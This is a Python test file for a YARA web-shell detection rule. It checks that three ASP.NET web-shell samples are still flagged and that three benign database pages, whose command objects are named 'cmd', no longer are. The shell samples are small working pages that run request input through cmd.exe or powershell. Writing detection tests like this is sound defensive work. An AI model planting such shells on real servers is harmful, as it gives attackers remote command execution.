"""False positives found on real benign ASP.NET applications nobody here had seen (issue 14, helper B1).

A broad benign set (``/tmp/benign12``, never in the project; BENCHMARKS.md, "False positives on unseen
benign applications") was scanned on first sight. Each shape below is a benign page reproduced from one
of those false positives, written for these tests (no line is copied from the applications), next to
the shell shape that must stay found. Nothing is compiled or run.

``EXT_WEBSHELL_Process_Exec`` (``data/rules/webshells.yar``): its process strings were a ``$p*`` set,
which YARA also fills with ``$page`` - so the rule asked only for a page directive, request input and
"cmd.exe" anywhere, and ``cmd.ExecuteReader()`` of an ordinary database handler contains "cmd.Exe". The
process strings are now ``$proc*`` and "cmd.exe" must stand as a whole word.
"""

from __future__ import annotations

from .rule_tables import Page, RuleCase, rule_tables

PROCESS_EXEC = "EXT_WEBSHELL_Process_Exec"

#: Shells that run the request's command through cmd.exe: found before the change, found after it.
COMMAND_SHELLS: list[Page] = [
    (
        "cs-process-start-cmd-c",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '    var p = System.Diagnostics.Process.Start("cmd.exe", "/c " + Request.Form["c"]);\n'
        "}\n</script>",
    ),
    (
        "cs-startinfo-full-path",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="H" %>\nusing System.Web;\nusing System.Diagnostics;\n'
        "public class H : IHttpHandler {\n"
        "    public void ProcessRequest(HttpContext context) {\n"
        '        var i = new ProcessStartInfo(@"C:\\Windows\\System32\\cmd.exe");\n'
        '        i.Arguments = "/k " + context.Request.QueryString["q"];\n'
        "        i.UseShellExecute = false;\n        Process.Start(i);\n    }\n"
        "    public bool IsReusable { get { return false; } }\n}",
    ),
    (
        "vb-new-process-powershell",
        ".aspx",
        '<%@ Page Language="VB" %>\n<script runat="server">\n'
        "Sub Page_Load(ByVal s As Object, ByVal e As EventArgs)\n"
        "    Dim p As New System.Diagnostics.Process()\n"
        '    p.StartInfo.FileName = "powershell"\n'
        '    p.StartInfo.Arguments = Request("a")\n    p.Start()\nEnd Sub\n</script>',
    ),
]

#: Benign handlers of the same kind as the false positives: database code whose command object is
#: named ``cmd`` (``cmd.ExecuteReader``), one of them also starting a fixed converter program.
BENIGN_PAGES: list[Page] = [
    (
        "thumbnail-from-database",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="Thumb" %>\nusing System;\nusing System.Web;\n'
        "public class Thumb : IHttpHandler {\n"
        "    public void ProcessRequest(HttpContext context) {\n"
        '        var conn = new System.Data.SqlClient.SqlConnection("Data Source=.;Initial Catalog=Pics");\n'
        '        var cmd = new System.Data.SqlClient.SqlCommand("select Img from Pics where Id=@id", conn);\n'
        '        cmd.Parameters.AddWithValue("@id", context.Request.QueryString["id"]);\n'
        "        conn.Open();\n        var rdr = cmd.ExecuteReader();\n"
        '        if (rdr.Read()) { context.Response.ContentType = "image/jpeg";\n'
        '            context.Response.BinaryWrite((byte[])rdr["Img"]); }\n        conn.Close();\n    }\n'
        "    public bool IsReusable { get { return false; } }\n}",
    ),
    (
        "vb-report-sqlcmd",
        ".aspx",
        '<%@ Page Language="VB" %>\n<script runat="server">\n'
        "Sub Page_Load(ByVal s As Object, ByVal e As EventArgs)\n"
        '    Dim sqlcmd As New System.Data.SqlClient.SqlCommand("select Name from Report where Year=@y", con)\n'
        '    sqlcmd.Parameters.AddWithValue("@y", Request.QueryString("year"))\n'
        "    grid.DataSource = sqlcmd.ExecuteReader()\n    grid.DataBind()\nEnd Sub\n</script>",
    ),
    (
        "video-converter-with-database",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Upload_Click(object s, EventArgs e) {\n"
        '    var cmd = new System.Data.SqlClient.SqlCommand("insert into Clips(Title) values(@t)", con);\n'
        '    cmd.Parameters.AddWithValue("@t", Request.Form["title"]);\n    cmd.ExecuteNonQuery();\n'
        "    var p = new System.Diagnostics.Process();\n"
        '    p.StartInfo.FileName = Server.MapPath("~/bin/converter.exe");\n'
        '    p.StartInfo.Arguments = "-i in.avi out.mp4";\n    p.Start();\n}\n</script>',
    ),
]

CASES: list[RuleCase] = [(PROCESS_EXEC, COMMAND_SHELLS, BENIGN_PAGES)]

(
    test_command_shell_is_found,
    test_benign_database_page_is_not_a_command_shell,
    test_rule_needs_a_server_page,
) = rule_tables(CASES)
